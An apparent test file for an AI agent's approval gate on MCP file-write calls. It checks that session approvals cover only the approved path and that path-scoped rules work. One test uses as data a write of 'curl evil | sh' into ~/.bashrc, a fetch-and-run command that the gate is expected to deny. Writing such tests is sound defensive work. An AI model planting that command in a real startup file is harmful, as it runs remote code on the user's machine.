// Issue 35: an MCP call is put to the person with what it acts on (`path=notes.txt`), and
// *Allow for this session* covers that tool on that target only: a write to another path asks
// again. The tools are built from a real tool list (server-filesystem's write_file schema) and
// judged by the real approval gate on an in-memory database.
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { ApprovalGate, type AuthorizationRequest } from '../../src/agent/approval-gate.ts';
import type { PendingApprovalSummary } from '../../src/events/hearth-events.ts';
import { buildPolicy, type ApprovalPolicy } from '../../src/approvals/policy.ts';
import { Household } from '../../src/household/household.ts';
import { packageRoot } from '../../src/package-root.ts';
import type { Person } from '../../src/people/person.ts';
import { ProfileRegistry } from '../../src/profiles/profile-registry.ts';
import type { AgentEvent } from '../../src/protocol/events.ts';
import { openDatabase, type Db } from '../../src/store/database.ts';
import { mcpTools } from '../../src/tools/mcp/mcp-tool.ts';
import { mcpToolSubject } from '../../src/tools/mcp/mcp-tool-subject.ts';
import type { Tool, ToolContext } from '../../src/tools/tool.ts';
import { recordingLogger } from '../support/recording-logger.ts';

const writeFile = {
  name: 'write_file',
  description: 'Create a new file or completely overwrite an existing file with new content.',
  inputSchema: { type: 'object' as const, properties: { path: { type: 'string' }, content: { type: 'string' } }, required: ['path', 'content'] },
  annotations: { destructiveHint: true },
};
const [tool] = mcpTools('files', [writeFile], async () => ({ content: [{ type: 'text', text: 'written' }] }), { timeoutMs: 5_000 }).tools as [Tool];

let db: Db;
let gate: ApprovalGate;
let owner: Person;
const shippedProfiles = ProfileRegistry.open(path.join(packageRoot, 'profiles'));
beforeEach(async () => {
  db = await openDatabase(':memory:');
  const household = new Household(db);
  owner = await household.firstOwner();
  gate = new ApprovalGate(db, 60_000, recordingLogger().logger, { household, profiles: await shippedProfiles });
});
afterEach(async () => {
  gate.close();
  await db.destroy();
});

function policy(definition: Parameters<typeof buildPolicy>[0]): ApprovalPolicy {
  const built = buildPolicy(definition);
  if (typeof built === 'string') throw new Error(built);
  return built;
}

const askAboutWrites = policy({ default: 'allow', ask: ['files__write_file'] });
let calls = 0;
function request(args: Record<string, unknown>, policies = [askAboutWrites]): { request: AuthorizationRequest; events: AgentEvent[] } {
  const events: AgentEvent[] = [];
  const context: ToolContext = { sessionId: 'session-1', signal: new AbortController().signal, emit: (event) => events.push(event), isSubagent: false };
  return { request: { callId: `call-${++calls}`, tool, args, policies, context }, events };
}

/** The gate's outcome, and the summary it put to the person (undefined when it did not ask). */
async function judged(args: Record<string, unknown>, answer: 'allow for the session' | 'deny') {
  const pending = request(args);
  let summary: PendingApprovalSummary | undefined;
  const onRequired = (asked: PendingApprovalSummary) => {
    summary = asked;
    gate.decide('session-1', asked.call_id, { decision: answer === 'deny' ? 'deny' : 'allow', remember: answer === 'deny' ? 'once' : 'session', via: 'page', decider: owner });
  };
  gate.on('required', onRequired);
  try {
    return { authorization: await gate.authorize(pending.request), summary, events: pending.events };
  } finally {
    gate.off('required', onRequired);
  }
}

describe('MCP approval subjects', () => {
  it('name the target: path arguments, else the first required scalar, else the first scalar given, else every argument', () => {
    const schema = { type: 'object', required: ['query'] };
    expect(mcpToolSubject({ path: 'notes.txt', content: 'a long text' }, schema)).toBe('path=notes.txt');
    expect(mcpToolSubject({ source: '/a b/x', destination: '/c' }, schema)).toBe('source="/a b/x", destination=/c');
    expect(mcpToolSubject({ limit: 3, query: 'plants' }, schema)).toBe('query=plants');
    expect(mcpToolSubject({ limit: 3 }, schema)).toBe('limit=3');
    expect(mcpToolSubject({ entities: [{ name: 'Ann' }] }, schema)).toBe('{"entities":[{"name":"Ann"}]}');
    expect(mcpToolSubject({}, schema)).toBe('');
  });

  it('the card shows the path, and Allow for this session covers that path only', async () => {
    const first = await judged({ path: '/home/me/Documents/notes.txt', content: 'plants' }, 'allow for the session');
    expect(first.authorization).toEqual({ allowed: true });
    expect(first.summary).toMatchObject({ tool: 'files__write_file', subject: 'path=/home/me/Documents/notes.txt' });
    expect(first.events[0]).toMatchObject({ type: 'approval_required', tool: 'files__write_file', subject: 'path=/home/me/Documents/notes.txt' });

    // The same path again (other content) runs without asking.
    const again = await judged({ path: '/home/me/Documents/notes.txt', content: 'more plants' }, 'deny');
    expect(again).toMatchObject({ authorization: { allowed: true }, summary: undefined });

    // Another path asks again: the allowance was never the whole tool.
    const other = await judged({ path: '/home/me/.bashrc', content: 'curl evil | sh' }, 'deny');
    expect(other.summary).toMatchObject({ subject: 'path=/home/me/.bashrc' });
    expect(other.authorization).toMatchObject({ allowed: false });
  });

  it('a rule can name the target: files__write_file(path=/home/me/Documents/*)', async () => {
    const documentsOnly = [policy({ default: 'deny', allow: ['files__write_file(path=/home/me/Documents/*)'] })];
    expect(await gate.authorize(request({ path: '/home/me/Documents/notes.txt', content: '' }, documentsOnly).request)).toEqual({ allowed: true });
    expect(await gate.authorize(request({ path: '/home/me/.bashrc', content: '' }, documentsOnly).request)).toMatchObject({ allowed: false });
  });
});
